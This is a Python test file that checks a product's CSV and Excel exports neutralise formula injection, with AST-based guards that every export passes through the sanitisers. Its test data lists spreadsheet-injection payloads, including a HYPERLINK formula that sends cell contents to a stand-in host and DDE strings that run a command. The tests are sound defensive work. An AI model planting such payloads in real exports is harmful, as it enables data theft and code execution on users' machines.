"""No export hands a spreadsheet a formula: the CSV rule, the XLSX rule, and a guard that
every CSV or workbook the product writes goes through them."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sufficiency.core.cells import csv_cell, csv_frame, text_only
from sufficiency.core.web import csv_text

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ["sufficiency", "forecasting", "optimiser", "standards", "post16", "admissions", "reports", "api",
            "geodata"]
#: Scripts that rebuild the product's own reference data from published files (no user text).
DATA_BUILDS = {"admissions/dfe.py", "forecasting/scorecards.py", "post16/data/build_data.py", "standards/data/build.py",
               "sufficiency/sample/build.py"}
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
#: What a CSV cell holds for each: a leading quote (and a carriage return written as a line feed).
NEUTRAL = ["'" + h.replace("\r", "\n") for h in HOSTILE]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("value", [-3, -2.5, 0, "-3", "+44", "-0.5e3", "St Mary's", "", None, "a=b",
                                   "Ashton-on-Mersey", "two\nlines"])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_csv_text_and_frames_neutralise_text_but_keep_negative_numbers() -> None:
    frame = pd.DataFrame({"name": HOSTILE, "surplus": [-3.5, -1, 0, 2, -7, 1], "code": ["-1"] * 6})
    for text in (csv_text(list(frame.columns), frame.itertuples(index=False)), csv_frame(frame).to_csv(index=False)):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert [r["name"] for r in rows] == NEUTRAL
        assert [float(r["surplus"]) for r in rows] == [-3.5, -1, 0, 2, -7, 1]
        assert {r["code"] for r in rows} == {"-1"}
    assert csv_frame(pd.DataFrame({"=evil": [1]})).columns.tolist() == ["'=evil"]


def test_a_carriage_return_inside_text_cannot_start_a_row() -> None:
    text = csv_text(["name", "n"], [["a\r=1+1", 1], ["b\r\nc", 2]])
    assert list(csv.reader(io.StringIO(text))) == [["name", "n"], ["a\n=1+1", "1"], ["b\nc", "2"]]


def test_a_workbook_keeps_user_text_as_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for i, text in enumerate(HOSTILE, start=1):
        book.active.cell(row=i, column=1, value=text)
        book.active.cell(row=i, column=2, value=-i)
    text_only(book).save(tmp_path / "t.xlsx")
    cells = list(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    # (XML keeps a carriage return as a line feed)
    assert [row[0].value for row in cells] == [h.replace("\r", "\n") for h in HOSTILE]
    assert {row[0].data_type for row in cells} == {"s"}
    assert [row[1].value for row in cells] == [-i for i in range(1, len(HOSTILE) + 1)]


def _calls(tree: ast.AST, attribute: str) -> list[ast.Call]:
    return [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
            and n.func.attr == attribute]


def test_every_csv_the_product_writes_goes_through_csv_frame() -> None:
    unsafe = []
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel in DATA_BUILDS:
                continue
            for call in _calls(ast.parse(path.read_text(encoding="utf-8")), "to_csv"):
                receiver = call.func.value  # type: ignore[attr-defined]
                if not (isinstance(receiver, ast.Call) and getattr(receiver.func, "id", "") == "csv_frame"):
                    unsafe.append(f"{rel}:{call.lineno}")
    assert not unsafe, f"write CSV files as csv_frame(frame).to_csv(...): {unsafe}"


def test_every_workbook_the_product_writes_is_made_text_only() -> None:
    missing = []
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            writes = "Workbook()" in text or "ExcelWriter(" in text
            if writes and "text_only(" not in text and path.relative_to(ROOT).as_posix() not in DATA_BUILDS:
                missing.append(path.relative_to(ROOT).as_posix())
    assert not missing, f"call sufficiency.core.cells.text_only on the workbook before saving: {missing}"
